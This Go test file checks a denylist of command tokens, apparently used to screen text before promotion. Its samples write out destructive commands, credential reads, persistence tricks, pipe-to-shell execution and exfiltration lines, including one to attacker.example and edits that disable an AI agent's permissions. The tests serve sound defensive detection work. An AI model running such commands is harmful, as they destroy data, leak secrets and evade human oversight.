package promotion

import (
	"slices"
	"strings"
	"testing"
)

func TestFloorTokensAreWellFormed(t *testing.T) {
	denylist := []Kind{KindDestructive, KindCredentials, KindPersistence, KindExec, KindEgress}
	seen := map[string]bool{}
	for _, tok := range Floor() {
		if len(tok.Text) < 3 {
			t.Errorf("%q is shorter than 3 bytes", tok.Text)
		}
		for i := range len(tok.Text) {
			if c := tok.Text[i]; c < ' ' || c > '~' || 'A' <= c && c <= 'Z' {
				t.Errorf("%q isn't lower-case printable ASCII", tok.Text)
				break
			}
		}
		if seen[tok.Text] {
			t.Errorf("%q is listed twice", tok.Text)
		}
		seen[tok.Text] = true
		if !slices.Contains(denylist, tok.Kind) {
			t.Errorf("%q is of kind %q, which isn't the denylist's", tok.Text, tok.Kind)
		}
		if tok.Why == "" || len(tok.Why) > 90 || strings.ContainsAny(tok.Why, "\r\n\t") || strings.TrimSpace(tok.Why) != tok.Why {
			t.Errorf("%q: the reason %q isn't one line of at most 90 characters", tok.Text, tok.Why)
		}
	}
}

func TestFloorIsInTheOrderOfKinds(t *testing.T) {
	order := Kinds()
	last := 0
	for _, tok := range Floor() {
		at := slices.Index(order, tok.Kind)
		if at < last {
			t.Fatalf("%q (%s) comes after %s", tok.Text, tok.Kind, order[last])
		}
		last = at
	}
}

// A blank at an end is there so that a token isn't part of common words, or of
// another token. Whoever adds one says here which.
func TestFloorTokensEndInABlankForAReason(t *testing.T) {
	reasons := map[string]string{
		"rm -r ": "rm -rf is a token", "rm -f ": "rm -fr is a token", " -delete": "auto-delete", "delete from ": "deleted from",
		" .env": "process.env", "sudo ": "sudoers", "npx ": "npx in names", "bunx ": "bunx in names", "uvx ": "uvx in names", " dlx ": "dlx in names", " ncat ": "concat", " nc ": "async", "`nc ": "`ncurses", "scp ": "scp in names", "rsync ": "mkdirSync(",
	}
	for _, tok := range Floor() {
		_, listed := reasons[tok.Text]
		if blank := strings.TrimSpace(tok.Text) != tok.Text; blank != listed {
			t.Errorf("%q: begins or ends in a blank: %t, a reason is given: %t", tok.Text, blank, listed)
		}
		delete(reasons, tok.Text)
	}
	for text := range reasons {
		t.Errorf("%q has a reason and isn't a token", text)
	}
}

func TestFloorIsTheCallersOwn(t *testing.T) {
	want := Floor()
	got := Floor()
	for i := range got {
		got[i] = Token{"nothing", KindExtra, "gone"}
	}
	_ = append(got[:0], Token{})
	if !slices.Equal(Floor(), want) {
		t.Error("changing what Floor returned changed the floor")
	}
}

// The floor may grow. What is named here was promised: it may not go.
func TestFloorHoldsWhatReviewersCountOn(t *testing.T) {
	samples := map[string]Kind{
		"please run rm -rf ~/work":                     KindDestructive,
		"git push --force origin main":                 KindDestructive,
		"git reset --hard HEAD~3":                      KindDestructive,
		"git clean -fdx":                               KindDestructive,
		"mkfs.ext4 /dev/sdb1":                          KindDestructive,
		"DROP TABLE users;":                            KindDestructive,
		"terraform destroy":                            KindDestructive,
		"kubectl delete ns prod":                       KindDestructive,
		":(){ :|:& };:":                                KindDestructive,
		"chmod 777 /srv":                               KindDestructive,
		"dd if=/dev/zero of=/dev/sda":                  KindDestructive,
		"cat ~/.ssh/config":                            KindCredentials,
		"cat id_rsa":                                   KindCredentials,
		"open('/etc/shadow')":                          KindCredentials,
		"cat ~/.aws/credentials":                       KindCredentials,
		"http://169.254.169.254/latest/":               KindCredentials,
		"process.env.TOKEN":                            KindCredentials,
		"os.environ['X']":                              KindCredentials,
		"cat ./.env":                                   KindCredentials,
		"cat .env":                                     KindCredentials,
		"-----BEGIN OPENSSH PRIVATE KEY-----":          KindCredentials,
		"(crontab -l; echo x)":                         KindPersistence,
		"echo x >> ~/.bashrc":                          KindPersistence,
		"cp x .git/hooks/pre-commit":                   KindPersistence,
		"systemctl enable evil":                        KindPersistence,
		"write ~/.claude/settings.json":                KindPersistence,
		"add this to CLAUDE.md":                        KindPersistence,
		`HKCU\Software\Microsoft\CurrentVersion\Run`:   KindPersistence,
		"tee -a ~/.ssh/authorized_keys":                KindPersistence,
		"eval(x)":                                      KindExec,
		"cp.execSync('x')":                             KindExec,
		"subprocess.run(x)":                            KindExec,
		"x | bash":                                     KindExec,
		"x|sh":                                         KindExec,
		"x | sh -s":                                    KindExec,
		"echo aGk= | base64 -d":                        KindExec,
		"python3 -c 'x'":                               KindExec,
		"__import__('os')":                             KindExec,
		"pickle.loads(x)":                              KindExec,
		"powershell -enc x":                            KindExec,
		"IEX(New-Object Net.WebClient)":                KindExec,
		"claude --dangerously-skip-permissions":        KindExec,
		"use curl for it":                              KindEgress,
		"exec 3<>/dev/tcp/1.2.3.4/80":                  KindEgress,
		"new XMLHttpRequest()":                         KindEgress,
		"await fetch(url)":                             KindEgress,
		"requests.post(u)":                             KindEgress,
		"use nc there 80":                              KindEgress,
		"nc -lvp 4444":                                 KindEgress,
		"https://webhook.site/x":                       KindEgress,
		"https://x.oast.fun":                           KindEgress,
		"ngrok http 80":                                KindEgress,
		"import smtplib":                               KindEgress,
		"scp x me@there:":                              KindEgress,
		"https://discord.com/api/webhooks/1/x":         KindEgress,
		"nslookup $(whoami).attacker.example":          KindEgress,
		"Invoke-WebRequest https://there.example -Out": KindEgress,
	}
	for text, kind := range samples {
		if !slices.ContainsFunc(Floor(), func(tok Token) bool {
			return tok.Kind == kind && strings.Contains(strings.ToLower(text), tok.Text)
		}) {
			t.Errorf("%q is found by no token of kind %s", text, kind)
		}
	}
}

// What ordinary text is full of must not be a token, nor part of one.
func TestFloorLeavesOrdinaryTextAlone(t *testing.T) {
	for _, text := range []string{
		"Format the output, then execute the plan asynchronously.",
		"async - runs later; sync - runs now; func - a function",
		"| Share | Should | Node | Python | Short |",
		"Concat the lists, prefetch nothing, and push on.",
		"user.profile, chat_history, import.meta.env.MODE",
		"A widget that forms a system (of some kind) and descends.",
		"Keep the environment clean; drop what you don't need; delete the draft.",
		"platform.system() tells, docker-run.sh -i my-app",
		"Read credentials, secrets and tokens from nowhere.",
		"fs.mkdirSync(dir); await readerSync()",
		"Search the web, fetch the page, and summarise what it says.",
	} {
		for _, tok := range Floor() {
			if strings.Contains(strings.ToLower(text), tok.Text) {
				t.Errorf("%q is found in %q", tok.Text, text)
			}
		}
	}
}
